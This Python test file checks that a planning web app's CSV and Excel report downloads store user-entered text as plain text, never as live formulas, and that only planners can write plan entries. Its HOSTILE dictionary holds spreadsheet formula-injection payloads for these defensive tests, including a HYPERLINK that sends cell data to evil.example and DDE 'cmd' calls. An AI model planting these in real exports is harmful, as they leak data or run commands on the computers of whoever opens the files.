"""Text typed into plan entries reaches the downloads as text, never as a live spreadsheet formula.

Only planners write plan entries; casework roles and admins read the plans but are refused (403, nothing written).
"""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from tests.integration.web.conftest import Web
from tests.integration.web.plan_story import FY, fiscal_2023
from tests.plan_scenarios import PLAN_CODE

YEAR = f"/api/plans/{PLAN_CODE}/years/{FY}"
DOWNLOAD = f"/plans/{PLAN_CODE}/report"
HOSTILE = {
    "do": '=HYPERLINK("http://evil.example/?d="&A1,"詳細")',
    "check": "+1+cmd|' /C calc'!A0",
    "act": "-2+3",
    "opinion": "@SUM(1+1)*cmd|' /C calc'!A0",
    "note": "\t=1+1",
    "committee": "\r=1+1",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def write_hostile_entries(web: Web) -> None:
    day = {"occurred_on": "2024-05-20"}
    for path, body in (
        ("reviews", {"measure": "7", "do": HOSTILE["do"], "check": HOSTILE["check"], "act": HOSTILE["act"]}),
        ("opinions", {"measure": "7", "opinion": HOSTILE["opinion"], "committee": HOSTILE["committee"]}),
        ("indicator-values", {"indicator": "M3", "value": "導入検討", "note": HOSTILE["note"]}),
    ):
        answer = web.client.post(f"{YEAR}/{path}", json={**day, **body})
        assert answer.status_code == 201, (path, answer.text)


def test_plan_entry_text_is_never_a_live_formula_in_the_csv(web: Web) -> None:
    web.seeded(fiscal_2023)
    web.login("hayashi")
    write_hostile_entries(web)
    text = web.client.get(f"{DOWNLOAD}.csv", params={"fy": str(FY)}).content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    live = [cell for cell in cells if cell.startswith(TRIGGERS) and not cell.lstrip("+-").replace(".", "").isdigit()]
    assert live == []
    for name in ("do", "check", "act"):
        assert "'" + HOSTILE[name] in cells, f"{name} is kept, shown as text"


def test_plan_entry_text_is_stored_as_text_in_every_sheet_of_the_workbook(web: Web) -> None:
    web.seeded(fiscal_2023)
    web.login("hayashi")
    write_hostile_entries(web)
    workbook = load_workbook(io.BytesIO(web.client.get(f"{DOWNLOAD}.xlsx", params={"fy": str(FY)}).content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    for name in ("do", "check", "act", "opinion"):
        assert HOSTILE[name] in texts, f"{name} is kept exactly, as a text cell"


@pytest.mark.parametrize("username", ["sato", "kimura", "admin"])
def test_only_planners_write_plan_entries(web: Web, username: str) -> None:
    web.seeded(fiscal_2023)
    web.login(username)
    before = web.events()
    review = {"occurred_on": "2024-05-20", "measure": "7", "do": "巡回相談"}
    assert web.client.post(f"{YEAR}/reviews", json=review).status_code == 403
    form = {"occurred_on": "令和6年5月20日", "measure": "7", "do": "巡回相談", "expected_version": "0"}
    assert web.client.post(f"/plans/{PLAN_CODE}/entries/reviews?fy={FY}", data=form).status_code == 403
    assert web.events() == before
    assert web.client.get(f"{YEAR}").status_code == 200, "they still read the plan"
    page = web.client.get(f"/plans/{PLAN_CODE}/entries", params={"fy": str(FY)})
    assert page.status_code == 200 and "計画・評価担当の利用者が行います" in page.text
    assert '<form id="form-' not in page.text, "no entry form they could not send"


def test_the_planner_gets_the_entry_forms(web: Web) -> None:
    web.seeded(fiscal_2023)
    web.login("hayashi")
    page = web.client.get(f"/plans/{PLAN_CODE}/entries", params={"fy": str(FY)}).text
    assert '<form id="form-' in page and "計画・評価担当の利用者が行います" not in page
